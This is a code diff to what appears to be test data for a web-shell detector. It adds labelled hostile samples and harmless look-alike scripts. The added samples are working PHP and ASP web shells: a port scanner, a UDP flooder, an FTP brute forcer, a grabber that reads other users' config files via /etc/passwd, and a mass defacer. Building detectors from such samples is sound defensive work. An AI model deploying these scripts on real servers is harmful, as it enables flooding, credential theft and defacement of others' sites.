@@ -342,6 +342,43 @@ SHELLS: dict[str, tuple[str, bytes, str]] = {
         b' Case "cpd": fs.CopyFolder p, t\nEnd Select %>',
         "file manager: 6 file operations on request-chosen paths",
     ),
+    "php_port_scanner": (
+        "ps.php",
+        b"<?php $h = $_POST['host'];\n"
+        b"for ($p = (int) $_POST['from']; $p <= (int) $_POST['to']; $p++) {\n"
+        b"  if ($s = @fsockopen($h, $p, $en, $es, 0.3)) { echo \"$p open<br>\"; fclose($s); } } ?>",
+        "a port scanner",
+    ),
+    "php_udp_flood": (
+        "fl.php",
+        b"<?php $stop = time() + (int) $_GET['secs'];\n"
+        b"while (time() < $stop) { $s = fsockopen('udp://' . $_GET['target'], mt_rand(1, 65535));\n"
+        b"  fwrite($s, str_repeat(chr(65), 4096)); fclose($s); } ?>",
+        "a flooder",
+    ),
+    "php_brute_forcer": (
+        "bf.php",
+        b"<?php $names = explode(\"\\n\", $_POST['names']);\n"
+        b"foreach ($names as $n) { $c = ftp_connect($_POST['host']);\n"
+        b"  if (@ftp_login($c, trim($n), $_POST['guess'])) echo htmlspecialchars($n); } ?>",
+        "a brute forcer",
+    ),
+    "php_config_grabber": (
+        "cg.php",
+        b"<?php foreach (file('/etc/passwd') as $row) { $who = strtok($row, ':');\n"
+        b"  $cfg = @file_get_contents(\"/home/$who/public_html/config.php\");\n"
+        b"  if ($cfg) echo '<pre>' . htmlspecialchars($cfg) . '</pre>'; } ?>",
+        "other users' home folders",
+    ),
+    "asp_mass_defacer": (
+        "df.asp",
+        b'<% Set fs = Server.CreateObject("Scripting.FileSystemObject")\n'
+        b"Sub Walk(p)\n"
+        b' fs.CreateTextFile(p & "\\index.html", True).Write "hello"\n'
+        b' For Each d In fs.GetFolder(p).SubFolders : Walk p & "\\" & d.Name : Next\n'
+        b'End Sub\nWalk Server.MapPath("/") %>',
+        "a mass defacer",
+    ),
 }
 
 BENIGN: dict[str, tuple[str, bytes]] = {
@@ -431,6 +468,18 @@ BENIGN: dict[str, tuple[str, bytes]] = {
         "status.php",
         b"<?php $rules = file_get_contents(ABSPATH . '.htaccess');\n"
         b"echo strpos($rules, 'RewriteEngine') !== false ? 'on' : 'off'; ?>",
+    ),
+    "php_db_retry": (
+        "db.php",
+        b"<?php for ($try = 1; $try <= 3; $try++) {\n"
+        b"  $link = @mysqli_connect(DB_HOST, DB_USER, DB_PASSWORD); if ($link) break; sleep(1); }\n"
+        b"$q = isset($_GET['q']) ? $_GET['q'] : ''; ?>",
+    ),
+    "php_health_check": (
+        "health.php",
+        b"<?php foreach (array(80, 443) as $port) {\n"
+        b"  $ok = @fsockopen('127.0.0.1', $port, $en, $es, 1); echo $port, $ok ? ' up' : ' down'; }\n"
+        b"echo htmlspecialchars($_GET['probe'] ?? ''); ?>",
     ),
     "aspx_upload_checked": (
         "up3.aspx",
